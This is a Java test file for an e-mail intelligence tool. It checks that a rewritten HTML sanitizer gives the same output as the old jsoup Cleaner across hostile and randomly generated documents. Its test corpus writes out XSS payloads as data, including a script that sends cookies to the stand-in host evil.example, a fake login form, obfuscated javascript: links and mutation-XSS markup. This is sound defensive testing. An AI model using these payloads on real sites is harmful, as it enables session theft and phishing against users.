package io.emailintel.ingester.stix;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Tag;
import org.junit.jupiter.api.Test;

/**
 * Issue 20 replaced jsoup's Cleaner and two more walks with one walk ({@link BodySanitizer}); its output must stay
 * what the old code ({@link JsoupCleanerOracle}) printed, byte for byte: over the hostile HTML of the reliability
 * corpus, every e-mail and HTML file in the test resources, an advisory like the bench's, and thousands of generated
 * documents of safe, unsafe and foreign elements, tricky URLs, comments, CDATA and deep nesting.
 */
class BodySanitizerEquivalenceTest {

    /** reliability/…/hostile/HostileCorpus.HOSTILE_HTML, bigDataImage(), the cid: and deep-html cases. */
    static final List<String> HOSTILE = List.of("<p>Dear analyst,</p>"
            + "<script>document.location='https://evil.example/steal?c='+document.cookie</script>"
            + "<p onclick=\"steal()\" onmouseover=\"steal()\">hover me</p>"
            + "<iframe src=\"https://evil.example/frame\"></iframe>"
            + "<a href=\"javascript:alert(1)\">js link</a> <a href=\"jav&#x09;ascript:alert(2)\">obfuscated</a> "
            + "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==\">data link</a>"
            + "<div style=\"width: expression(alert(4)); background:url(https://evil.example/css.png)\">css</div>"
            + "<img src=\"https://track.evil.example/pixel.gif?u=victim\" width=1 height=1>"
            + "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"small inline\">"
            + "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+\">"
            + "<form action=\"https://evil.example/login\"><input type=password name=p></form>"
            + "<p><a href=\"https://vendor.example/advisory\">the real advisory</a></p>"
            + "<img alt=\"big inline\" src=\"data:image/png;base64," + "A".repeat(4 * 1024 * 1024) + "\">",
            "<p>see the picture</p><img src=\"cid:huge@hostile.example\">",
            "<a rel=\"noopener noreferrer nofollow\" href=\"https://x.example/\">a</a><a href=\"https://x.example/\" "
                    + "rel=\"noopener noreferrer nofollow\" title=t>b</a><a REL=nofollow href=https://x.example>c</a>",
            "<div>".repeat(10_000) + "deep text" + "</div>".repeat(10_000),
            "<div>".repeat(10_000) + "deep text<script>x()</script>" + "</div>".repeat(10_000) + "<b>".repeat(10_000)
                    + "bold" + "<table><tr><td>".repeat(1_000) + "cell",
            "<p>x</p><img src=\"data:image/png;base64," + "A".repeat(BodySanitizer.MAX_DATA_IMAGE_CHARS) + "\">"
                    + "<img src=\"data:image/png;base64," + "A".repeat(BodySanitizer.MAX_DATA_IMAGE_CHARS - 22) + "\">",
            "<a href=\"jav&#x09;ascript:alert(1)\">a</a><a href=\" javascript:alert(2)\">b</a>"
                    + "<a href=\"vbscript:msgbox(3)\">c</a><div style=\"width: expression(alert(4))\">d</div>"
                    + "<svg onload=\"alert(5)\"><script>alert(6)</script></svg>"
                    + "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table>"
                    + "</mtext></math><body onload=\"alert(8)\">e</body>");

    static final String[] URLS = {
        "https://vendor.example/advisories/1", "http://vendor.example", "https://vendor.example?q=1#top",
        "https://vendor.example/a/./b", "https://vendor.example/a/../b", "https://vendor.example/.hidden",
        "HTTPS://vendor.example/x", "https://Vendor.Example/x", "https://vendor.example:8443/x",
        "https://user:pw@vendor.example/x", "https://vendor.example/a b", "https://vendor.example/a\tb",
        "https://vendor.example/%41%zz", "https://vendor.example/é", "https://xn--vndor-fsa.example/",
        "https:///nohost", "https:", "https://", "http:/one-slash", "//vendor.example/x", "/relative", "relative",
        "#anchor", "?query", "mailto:someone@example.org", "MAILTO:someone@example.org", "mailto:",
        "ftp://files.example/x", "javascript:alert(1)", " javascript:alert(1)", "jav\tascript:alert(1)",
        "java\nscript:alert(1)", "data:image/png;base64,iVBORw0KGgo=", "data:image/png;base64,iVBO\nRw0KGgo=",
        "DATA:image/png;base64,AAAA", "data:image/svg+xml;base64,PHN2Zz4=", "data:text/html,<script>x</script>",
        "data:", "data:image/gif;base64,R0lG", "cid:abc@example", "https://vendor.example/x?a=1&b=2",
        "https://vendor.example/x?a=1&amp;b=2", "https://vendor.example/\"q\"", "https://vendor.example/<x>",
        "https://-bad-.example/", "https://vendor..example/", "https://vendor.example./", "http://127.0.0.1/x",
        "https://[::1]/x", "https://vendor.example\\evil.example/", "https://vendor.example/a//b",
        "https://vendor.example/a/.", "https://vendor.example/..", "tel:+1555", "", " ", "https://vendor.example/ ",
    };

    private static final String[] TAGS = {
        "a", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "div", "dl", "dt", "em",
        "h1", "h3", "i", "img", "li", "ol", "p", "pre", "q", "small", "span", "strike", "strong", "sub", "sup",
        "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "font", "center", "o:p", "html", "head",
        "body", "title", "style", "script", "iframe", "form", "input", "button", "textarea", "select", "option",
        "svg", "math", "mtext", "foreignObject", "noscript", "template", "object", "embed", "base", "meta", "link",
        "hr", "xmp", "plaintext", "frameset", "details", "summary", "video", "area", "map", "label", "noembed",
    };

    private static final String[] ATTRIBUTES = {
        "href", "src", "cite", "title", "alt", "width", "height", "align", "style", "onclick", "onerror", "rel",
        "class", "id", "colspan", "rowspan", "scope", "span", "start", "type", "summary", "abbr", "axis", "target",
        "background", "HREF", "data-x", "nowrap", "checked", "xmlns:o", "lang",
    };

    private static final String[] TEXTS = {
        "TLP:AMBER", "a & b", "1 < 2 > 0", "\u00a0", "&nbsp;", "&amp;", "&lt;script&gt;", "&#x27;", "é – ü",
        "\uD83D\uDE00", "  spaced  \n lines \r\n", "\"quoted\"", "<!-- comment -->", "<![CDATA[ cdata ]]>", "&bogus;",
        "198.51.100.7", "evil[.]example", "noopener noreferrer nofollow",
    };

    @Test
    void theHostileCorpusIsSanitisedAsBefore() {
        for (String html : HOSTILE) {
            assertSame(html);
        }
    }

    @Test
    void everyTestMailAndHtmlFileIsSanitisedAsBefore() throws IOException {
        List<Path> files = new ArrayList<>();
        for (Path root : List.of(Path.of("src/test/resources"), Path.of("../fetcher/src/test/resources"),
                Path.of("../reliability/src/test/resources"))) {
            if (Files.isDirectory(root)) {
                try (Stream<Path> walk = Files.walk(root)) {
                    walk.filter(Files::isRegularFile).filter(p -> p.toString().matches(".*\\.(eml|html?|txt|jsonl)"))
                            .forEach(files::add);
                }
            }
        }
        assertThat(files).hasSizeGreaterThan(10);
        for (Path file : files) {
            assertSame(new String(Files.readAllBytes(file), StandardCharsets.UTF_8));
        }
    }

    @Test
    void anAdvisoryLikeTheBenchsIsSanitisedAsBefore() {
        StringBuilder b = new StringBuilder("<html><head><style>p{margin:0}</style></head><body><h1>Advisory</h1>");
        for (int n = 0; b.length() < 20_000; n++) {
            b.append("<h2>Finding ").append(n).append("</h2><p>The actor used <b>spear-phishing</b>; see <a href=\"")
                    .append(URLS[n % URLS.length].replace("\"", "&quot;")).append("\">the write-up</a>.</p><table>")
                    .append("<tr><td>198.51.100.").append(n % 250).append("</td><td>evil-").append(n)
                    .append(".example</td></tr></table>");
        }
        assertSame(b.append("</body></html>").toString());
    }

    @Test
    void generatedDocumentsAreSanitisedAsBefore() {
        Random random = new Random(20);
        for (int doc = 0; doc < 3_000; doc++) {
            assertSame(document(random, doc % 50 == 0 ? 150 : 8));
        }
    }

    private static String document(Random random, int maxDepth) {
        StringBuilder out = new StringBuilder();
        int open = 0;
        int length = 5 + random.nextInt(60);
        List<String> stack = new ArrayList<>();
        for (int i = 0; i < length; i++) {
            int what = random.nextInt(10);
            if (what < 4 && stack.size() < maxDepth) {
                String tag = TAGS[random.nextInt(TAGS.length)];
                out.append('<').append(tag);
                for (int a = random.nextInt(4); a > 0; a--) {
                    String name = ATTRIBUTES[random.nextInt(ATTRIBUTES.length)];
                    out.append(' ').append(name);
                    if (random.nextInt(6) > 0) {
                        String value = random.nextBoolean() ? URLS[random.nextInt(URLS.length)]
                                : TEXTS[random.nextInt(TEXTS.length)];
                        out.append(random.nextBoolean() ? "=\"" + value.replace("\"", "&quot;") + "\""
                                : "='" + value.replace("'", "&#39;") + "'");
                    }
                }
                out.append(random.nextInt(8) == 0 ? "/>" : ">");
                stack.add(tag);
                open++;
            } else if (what < 6 && !stack.isEmpty()) {
                out.append("</").append(stack.remove(stack.size() - 1)).append('>');
            } else if (what < 7) {
                out.append("<img src=\"").append(URLS[random.nextInt(URLS.length)].replace("\"", "&quot;"))
                        .append("\" alt=x>");
            } else {
                out.append(TEXTS[random.nextInt(TEXTS.length)]);
            }
        }
        return open % 3 == 0 ? out.toString() : out.append("</body>trailing").toString();
    }

    @Test
    void theTagListIsTheSafelists() {
        for (String tag : TAGS) {
            String name = Tag.valueOf(tag).normalName();
            assertThat(BodySanitizer.SAFE_TAGS.contains(name)).as(tag).isEqualTo(BodySanitizer.SAFELIST.isSafeTag(name));
        }
        for (String tag : BodySanitizer.SAFE_TAGS) {
            assertThat(BodySanitizer.SAFELIST.isSafeTag(tag)).as(tag).isTrue();
        }
    }

    @Test
    void theUrlAttributesAreTheOnesTheSafelistChecksTheProtocolOf() {
        for (String tag : BodySanitizer.SAFE_TAGS) {
            for (String key : ATTRIBUTES) {
                Element e = new Element(tag);
                Attribute relative = new Attribute(key.toLowerCase(), "relative/path");
                boolean safe = BodySanitizer.SAFELIST.isSafeAttribute(tag, e.attr(relative.getKey(), "relative/path"),
                        relative);
                var protocols = BodySanitizer.URL_ATTRIBUTES.get(tag + " " + relative.getKey());
                if (protocols != null) {
                    assertThat(safe).as(tag + " " + key).isFalse();
                    for (String scheme : List.of("http", "https", "mailto", "data", "ftp")) {
                        String value = scheme + ":x" + (scheme.startsWith("http") ? "//h.example/" : "");
                        value = scheme.startsWith("http") ? scheme + "://h.example/" : value;
                        Attribute a = new Attribute(relative.getKey(), value);
                        assertThat(BodySanitizer.SAFELIST.isSafeAttribute(tag, new Element(tag).attr(a.getKey(), value),
                                a)).as(tag + " " + key + " " + scheme).isEqualTo(protocols.contains(scheme));
                    }
                } else if (safe) {
                    // an attribute without a protocol check: the walk asks the safelist, so nothing to compare
                    assertThat(relative.getKey()).isNotEmpty();
                }
            }
        }
    }

    @Test
    void valuesTakenAsTheyAreAreTheOnesResolutionLeavesUnchanged() {
        Random random = new Random(7);
        List<String> values = new ArrayList<>(List.of(URLS));
        String chars = "abcXYZ019-._~/?#%&=+,;:@!$*'()[]\\ \"<>é\t";
        for (int i = 0; i < 20_000; i++) {
            StringBuilder v = new StringBuilder(random.nextBoolean() ? "https://" : random.nextBoolean() ? "http://"
                    : "data:image/png;base64,");
            for (int n = random.nextInt(30); n > 0; n--) {
                v.append(chars.charAt(random.nextInt(chars.length())));
            }
            values.add(v.toString());
        }
        int fast = 0;
        for (String value : values) {
            if (BodySanitizer.unchangedByResolution(value)) {
                fast++;
                assertThat(new Element("a").attr("href", value).absUrl("href")).as(value).isEqualTo(value);
            }
        }
        assertThat(fast).isGreaterThan(1_000);
    }

    private static void assertSame(String html) {
        assertThat(BodySanitizer.html(html)).as(() -> html.length() > 500 ? html.substring(0, 500) + "…" : html)
                .isEqualTo(JsoupCleanerOracle.html(html));
    }
}
